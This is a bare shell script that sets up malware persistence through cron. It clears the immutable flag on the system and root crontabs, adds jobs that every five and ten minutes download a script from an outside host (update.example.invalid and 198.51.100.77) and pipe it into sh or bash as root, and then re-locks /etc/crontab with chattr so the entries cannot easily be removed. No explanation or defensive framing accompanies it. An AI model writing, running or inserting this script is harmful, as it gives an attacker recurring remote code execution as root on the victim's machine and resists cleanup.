#!/bin/sh
chattr -i /etc/crontab /var/spool/cron/crontabs/root 2>/dev/null
(crontab -l 2>/dev/null; echo "*/5 * * * * (curl -fsSL http://update.example.invalid/u.sh || wget -q -O- http://update.example.invalid/u.sh) | sh") | crontab -
echo "*/10 * * * * root curl -s http://198.51.100.77/r | bash" >> /etc/crontab
chattr +i /etc/crontab
